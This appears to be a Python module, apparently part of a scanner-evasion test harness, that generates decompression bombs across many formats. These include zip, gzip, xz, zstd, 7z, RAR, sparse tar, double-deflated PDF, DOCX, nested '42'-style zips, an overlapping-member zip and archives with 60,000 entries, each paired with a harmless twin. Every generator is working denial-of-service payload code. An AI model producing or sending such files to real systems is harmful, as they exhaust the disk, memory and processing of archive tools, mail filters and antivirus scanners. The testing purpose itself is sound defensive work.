"""Files that are small and grow without end when they are opened, each beside the same kind of file that does not.

`BOMBS` are functions of a boolean, whether it shall be the harmless twin, that give a file name and bytes.
"""
import bz2
import functools
import gzip
import io
import lzma
import pathlib
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib

from evasion import TEXT
from evasion_files import hand_made, local_bytes, record, tarred, zipped
from evasion_formats import RAR4, RAR4_END, RAR5, RAR5_END, rar4_file, rar5_file

BLOCK = bytes(16 << 20)
TIMES = 64  # blocks: a gigabyte
WORDS = TEXT * 100
BOMBS = {}


def bomb(name):
    def register(make):
        BOMBS[name] = make
        return make
    return register


def deflated(blocks=TIMES):
    """A raw deflate stream of so many blocks of zeros: packed once, as its history is all zeros everywhere."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    return one * blocks + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


@functools.lru_cache(maxsize=None)
def checksum(blocks=TIMES):
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(BLOCK, crc)
    return crc


def packed_by(command, out, size=len(BLOCK) * TIMES):
    """What a packer makes of a file of zeros, or of words where `size` is 0."""
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder) / "zeros.txt"
        path.write_bytes(b"" if size else WORDS)
        if size:
            with path.open("r+b") as file:
                file.truncate(size)
        subprocess.run(command.split(), cwd=folder, check=True, capture_output=True)
        return (pathlib.Path(folder) / out).read_bytes()


# ---------------------------------------------------------------- by ratio

@bomb("zip-ratio")
def zip_ratio(twin):
    size = len(BLOCK) * TIMES
    claim = record("zeros.txt", b"", crc=checksum(), size=size, stored=deflated())
    claim["packed"] = len(claim["body"])
    return "a.zip", zipped(("words.txt", WORDS)) if twin else hand_made([(claim, claim)])


@bomb("zip-bzip2")
def zip_bzip2(twin):
    return "a.zip", zipped(("zeros.txt", WORDS if twin else bytes(300 << 20)), method=zipfile.ZIP_BZIP2)


@bomb("zip-lzma")
def zip_lzma(twin):
    return "a.zip", zipped(("zeros.txt", WORDS if twin else bytes(300 << 20)), method=zipfile.ZIP_LZMA)


@bomb("gzip")
def gzip_one(twin):
    tail = struct.pack("<II", checksum(), len(BLOCK) * TIMES & 0xffffffff)
    return "a.gz", gzip.compress(WORDS) if twin else b"\x1f\x8b\x08\0\0\0\0\0\2\3" + deflated() + tail


@bomb("gzip-members")
def gzip_members(twin):
    return "a.gz", gzip.compress(WORDS) * 2 if twin else gzip.compress(BLOCK) * TIMES


@bomb("bzip2")
def bzip2(twin):
    return "a.bz2", bz2.compress(WORDS) if twin else bz2.compress(BLOCK) * TIMES


@bomb("xz")
def xz(twin):
    return "a.xz", lzma.compress(WORDS) if twin else lzma.compress(BLOCK) * TIMES


@bomb("lzma")
def lzma_alone(twin):
    return "a.lzma", lzma.compress(WORDS if twin else bytes(300 << 20), lzma.FORMAT_ALONE)


@bomb("zstd")
def zstd(twin):
    return "a.zst", packed_by("zstd -q -1 zeros.txt -o a.zst", "a.zst", 0 if twin else len(BLOCK) * TIMES)


@bomb("lz4")
def lz4(twin):
    return "a.lz4", packed_by("lz4 -q -9 zeros.txt a.lz4", "a.lz4", 0 if twin else len(BLOCK) * TIMES)


@bomb("7z")
def seven_zip(twin):
    return "a.7z", packed_by("7z a -mx=1 a.7z zeros.txt", "a.7z", 0 if twin else len(BLOCK) * 32)


@bomb("7z-ppmd")
def seven_zip_ppmd(twin):
    return "a.7z", packed_by("7z a -m0=PPMd a.7z zeros.txt", "a.7z", 0 if twin else 300 << 20)


@bomb("tar-gz")
def tar_gz(twin):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", compresslevel=9) as archive:
        info = tarfile.TarInfo("zeros.txt")
        info.size = len(WORDS) if twin else 400 << 20
        archive.addfile(info, io.BytesIO(WORDS if twin else bytes(400 << 20)))
    return "a.tar.gz", out.getvalue()


@bomb("tar-sparse")
def tar_sparse(twin):
    """A terabyte that is a hole (the old GNU format), and not a byte of it in the archive."""
    if twin:
        return "a.tar", tarred(("words.txt", WORDS))
    header = bytearray(512)
    for at, field in ((0, b"hole.txt"), (100, b"0000644\0"), (108, b"0000000\0"), (116, b"0000000\0"), (124, b"00000001000\0"),
                      (136, b"00000000000\0"), (148, b" " * 8), (156, b"S"), (257, b"ustar  \0")):
        header[at:at + len(field)] = field
    size = 1 << 40
    huge = b"\x80" + bytes(3) + size.to_bytes(8, "big")
    header[386:398] = (b"\x80" + bytes(3) + (size - 512).to_bytes(8, "big"))
    header[398:410] = b"00000001000\0"
    header[483:495] = huge
    header[148:156] = b"%06o\0 " % sum(header)
    return "a.tar", bytes(header) + bytes(512) + bytes(1024)


@bomb("pdf")
def pdf(twin):
    """A stream that is deflated twice: some kilobytes, a megabyte, a gigabyte."""
    inner = zlib.compress(WORDS) if twin else b"\x78\xda" + deflated() + struct.pack(">I", 1)
    data = zlib.compress(inner, 9)
    head = (b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a)2 0 R]>>>>>>\nendobj\n2 0 obj\n"
            b"<</Type/Filespec/F(a.txt)/EF<</F 3 0 R>>>>\nendobj\n3 0 obj\n"
            b"<</Type/EmbeddedFile/Filter[/FlateDecode/FlateDecode]/Length ")
    return "a.pdf", (head + str(len(data)).encode() + b">>\nstream\n" + data
                     + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


@bomb("docx")
def docx(twin):
    def claim(name, data):
        return (record(name, data),) * 2
    entries = [claim("[Content_Types].xml", b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>")]
    huge = record("word/document.xml", b"", crc=checksum(), size=len(BLOCK) * TIMES, stored=deflated())
    huge["packed"] = len(huge["body"])
    entries.append(claim("word/document.xml", b"<w/>") if twin else (huge, huge))
    return "a.docx", hand_made(entries)


# ---------------------------------------------------------------- nested

@bomb("zip-42")
def forty_two(twin):
    """Five levels of sixteen: 65536 files of a gigabyte."""
    name, data = zip_ratio(twin)
    for level in range(1 if twin else 4):
        data = zipped(*((f"{level}{i}.zip", data) for i in range(2 if twin else 16)))
    return name, data


@bomb("gzip-in-gzip")
def gzip_nested(twin):
    data = gzip_one(twin)[1]
    return "a.gz", gzip.compress(gzip.compress(data, 9), 9)


@bomb("rar-nested")
def rar_nested(twin):
    data = RAR4 + rar4_file(b"words.txt", WORDS) + RAR4_END
    for level in range(1 if twin else 60):
        data = RAR4 + rar4_file(b"%d.rar" % level, data) + RAR4_END
    return "a.rar", data


@bomb("rar5-fan")
def rar5_fan(twin):
    """Four levels of twelve, and a bomb in each leaf."""
    data = b"".join((RAR5, rar5_file(b"a.gz", gzip_one(twin)[1]), RAR5_END)) if not twin else RAR5 + rar5_file(b"a.txt", WORDS) + RAR5_END
    for level in range(1 if twin else 2):
        data = RAR5 + b"".join(rar5_file(b"%d%d.rar" % (level, i), data) for i in range(2 if twin else 5)) + RAR5_END
    return "a.rar", data


@bomb("7z-nested")
def seven_zip_nested(twin):
    with tempfile.TemporaryDirectory() as folder:
        inner = pathlib.Path(folder) / "0.7z"
        inner.write_bytes(seven_zip(twin)[1])
        for level in range(1 if twin else 24):
            subprocess.run(["7z", "a", "-mx=0", f"{level + 1}.7z", f"{level}.7z"], cwd=folder, check=True, capture_output=True)
        return "a.7z", sorted(pathlib.Path(folder).iterdir(), key=lambda path: int(path.stem))[-1].read_bytes()


@bomb("mail-in-mail")
def mail_in_mail(twin):
    """Files that are mails with two such files each."""
    mail = b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n" + WORDS
    for level in range(1 if twin else 12):
        part = b"--L%d\r\nContent-Type: message/rfc822\r\n\r\n" % level + mail + b"\r\n"
        mail = (b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=L%d\r\n\r\n" % level + part * 2
                + b"--L%d--\r\n" % level)
    return "a.zip", zipped(("a.eml", mail))


# ---------------------------------------------------------------- overlapping

@bomb("zip-overlapping")
def zip_overlapping(twin):
    """Members that quote the headers of those behind them, so that every one has a name and a checksum of its own and all share
    one kernel (David Fifield, "A better zip bomb", 2019)."""
    count, kernel = (1 if twin else 250), bytes(30000) if twin else bytes(4 << 20)
    body, crc, size = zlib.compress(kernel, 9)[2:-4], zlib.crc32(kernel), len(kernel)
    plain, claims = kernel, []
    for number in reversed(range(count)):
        claim = {"name": b"%06d" % number, "method": 8, "crc": crc, "flags": 0, "extra": b"", "packed": len(body), "size": size,
                 "body": body}
        header = local_bytes(claim)
        claims.insert(0, (len(body), header, claim))
        body = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xffff) + header + body
        plain = header + plain
        crc, size = zlib.crc32(plain), len(plain)
    out, records = claims[0][1] + claims[0][2]["body"], b""
    for length, header, claim in claims:
        offset = len(out) - length - len(header)
        records += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 0x5821, claim["crc"], claim["packed"], claim["size"],
                               len(claim["name"]), 0, 0, 0, 0, 0, offset) + claim["name"]
    return "a.zip", out + records + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, count, count, len(records), len(out), 0)


@bomb("zip-one-body")
def zip_one_body(twin):
    """Sixty thousand entries of the directory, and one member that all of them name."""
    one = record("words.txt", WORDS)
    if twin:
        return "a.zip", hand_made([(one, one)])
    return "a.zip", hand_made([(one, one)] + [(None, one)] * 60000, offset_of=0)


# ---------------------------------------------------------------- by number

@bomb("zip-members")
def zip_members(twin):
    return "a.zip", zipped(*((f"{i}.txt", b"") for i in range(40 if twin else 60000)), method=zipfile.ZIP_STORED)


@bomb("tar-members")
def tar_members(twin):
    return "a.tar.gz", gzip.compress(tarred(*((f"{i}.txt", b"x") for i in range(40 if twin else 60000))), 6)


@bomb("rar-members")
def rar_members(twin):
    return "a.rar", RAR4 + b"".join(rar4_file(b"%d.txt" % i, b"x") for i in range(40 if twin else 60000)) + RAR4_END


@bomb("rar5-members")
def rar5_members(twin):
    return "a.rar", RAR5 + b"".join(rar5_file(b"%d.txt" % i, b"x") for i in range(40 if twin else 60000)) + RAR5_END
